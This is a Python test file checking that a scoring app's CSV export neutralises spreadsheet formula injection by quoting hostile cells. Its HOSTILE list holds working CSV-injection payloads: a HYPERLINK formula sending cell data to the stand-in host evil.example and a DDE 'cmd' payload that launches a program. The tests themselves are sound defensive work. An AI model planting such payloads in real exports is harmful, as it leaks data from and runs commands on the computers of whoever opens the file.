"""Tests for the exports: the CSV results table never carries a live spreadsheet formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from storage.export import neutralise_cell, to_csv
from storage.replica import Replica

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


@pytest.fixture
def hostile(tmp_path: Path) -> Replica:
    """A host whose team names, locations and criterion names all start like formulas."""
    replica = Replica.open(tmp_path / "host.db")
    replica.register_self()
    for k, name in enumerate(HOSTILE):
        replica.admin(
            "criterion.put",
            {
                "id": f"c{k}",
                "name": name,
                "weight": 1,
                "min": -10,
                "max": 10,
                "step": 1,
                "order": k,
            },
        )
        replica.admin("team.put", {"id": f"-{k}-1", "name": name, "location": name})
    replica.admin("judge.put", {"id": "j1", "name": "=Judge"})
    replica.admin("event.set", {"field": "phase", "value": "scoring"})
    judge = Replica.open(tmp_path / "judge.db")
    replica.admin(
        "device.put",
        {
            "device": judge.device_id,
            "pubkey": judge.key.public_b64,
            "role": "judge",
            "subject": "j1",
            "name": "",
        },
    )
    body = {"team": "-0-1", "scores": {f"c{k}": -2 for k in range(len(HOSTILE))}, "final": True}
    assert replica.submit([judge.make("sheet.save", body, "j1").to_wire()])[0].accepted
    judge.close()
    return replica


@pytest.mark.parametrize("text", [*HOSTILE, "\tx", "\rx", "=", "-"])
def test_a_cell_that_starts_like_a_formula_is_quoted(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Aurora", "", "Team =1", "'quoted", "3 - 2"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert neutralise_cell(text) == text


def test_no_cell_of_the_csv_starts_a_formula(hostile: Replica) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(hostile))))
    assert len(rows) == 1 + len(HOSTILE)
    # Numbers the export writes itself stay numbers: a negative mean is not a formula.
    scored = next(row for row in rows if row[1] == "'-0-1")
    assert scored[6:] == ["-2.00"] * len(HOSTILE)
    cells = [cell for row in rows for cell in row if cell != "-2.00"]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    header = rows[0]
    for name in HOSTILE:
        assert f"'{name} (mean)" in header  # the text survives, shown as typed
    names = {row[2] for row in rows[1:]}
    assert names == {"'" + name for name in HOSTILE}
    assert {row[1] for row in rows[1:]} == {f"'-{k}-1" for k in range(len(HOSTILE))}
    hostile.close()
